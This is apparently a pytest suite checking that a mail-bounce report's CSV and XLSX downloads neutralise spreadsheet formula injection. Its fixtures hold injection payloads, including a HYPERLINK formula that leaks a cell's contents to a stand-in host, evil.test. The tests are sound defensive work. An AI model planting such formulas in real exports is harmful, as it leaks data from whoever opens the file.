"""Downloads: CSV and XLSX of the report and of its bounce rows, safe against formula injection."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from core.spreadsheets import safe_cell
from tests.reports.report_data import bounce_for, build_march

MARCH_QUERY = {"period": "custom", "start": "2025-03-01", "end": "2025-03-31"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1 555 0100", "'+1 555 0100"),  # a phone number as text: shown with the quote
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\0=1", "'\0=1"),
        ("user@example.com", "user@example.com"),  # "@" inside is harmless
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, -5),  # real numbers stay numbers, negative ones included
        (Decimal("-1.50"), Decimal("-1.50")),
        (2.5, 2.5),
        (True, True),
        (dt.date(2025, 3, 1), dt.date(2025, 3, 1)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
    assert type(safe_cell(value)) is type(expected)


@pytest.fixture
def march_with_payloads(db):
    march = build_march()
    bounce_for(
        None,
        day=dt.date(2025, 3, 20),
        recipient="victim@evil.test",
        recipient_domain="evil.test",
        diagnostic='=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
        explanation="+1 555 0100 called",
        status="-5.1.1",
    )
    from reports import rollups

    rollups.rebuild()
    return march


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_rows_csv_streams_and_neutralises_formulas(sales_client, march_with_payloads):
    response = sales_client.get("/reports/bounces/rows.csv", MARCH_QUERY)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    header, data = rows[0], rows[1:]
    assert len(data) == 9  # the 8 bounces of March, and the hostile one
    evil = dict(zip(header, next(r for r in data if r[2] == "victim@evil.test"), strict=True))
    assert evil["diagnostic"].startswith("'=HYPERLINK")
    assert evil["explanation"] == "'+1 555 0100 called"
    assert evil["status"] == "'-5.1.1"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in data for cell in row)


def test_rows_xlsx_opens_and_is_safe(sales_client, march_with_payloads):
    response = sales_client.get("/reports/bounces/rows.xlsx", MARCH_QUERY)
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(values_only=True))
    header, data = rows[0], rows[1:]
    assert len(data) == 9
    evil = dict(zip(header, next(r for r in data if r[2] == "victim@evil.test"), strict=True))
    assert evil["diagnostic"].startswith("'=HYPERLINK")
    assert isinstance(evil["id"], int)
    assert isinstance(evil["received_at"], dt.datetime)
    for row in data:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")))


def test_report_csv_has_every_section(sales_client, march_with_payloads):
    response = sales_client.get("/reports/bounces/export.csv", MARCH_QUERY)
    rows = read_csv(response)
    assert rows[0][:3] == ["section", "key", "label"]
    sections = {row[0] for row in rows[1:]}
    assert sections == {"total", "blocks", "period", "category", "recipient_domain", "mailing"}
    total = dict(zip(rows[0], rows[1], strict=True))
    assert (total["sent"], total["bounced"], total["bounce_rate_percent"], total["count"]) == (
        "100",
        "5",
        "5.00",
        "9",
    )


def test_report_xlsx_keeps_numbers_as_numbers(sales_client, march_with_payloads):
    response = sales_client.get("/reports/bounces/export.xlsx", MARCH_QUERY)
    body = b"".join(response.streaming_content)
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert book.sheetnames == [
        "Summary",
        "Over time",
        "Categories",
        "Recipient domains",
        "Mailings",
    ]
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert summary["Sent"] == 100 and summary["Bounced"] == 5
    assert summary["Bounce rate (%)"] == 5
    mailings = list(book["Mailings"].iter_rows(values_only=True))
    assert mailings[1][1:] == ("Spring news", 40, 4, 10, True)


def test_a_large_rows_download_streams_in_chunks(sales_client, db, settings):
    from tests.factories import BounceFactory

    BounceFactory.create_batch(2500, received_at=dt.datetime(2025, 3, 3, tzinfo=dt.UTC))
    response = sales_client.get("/reports/bounces/rows.csv", MARCH_QUERY)
    chunks = iter(response.streaming_content)
    first = next(chunks)
    assert first == "\ufeff".encode()  # sent before the rows are read
    rest = b"".join(chunks).decode()
    assert rest.count("\n") == 2501
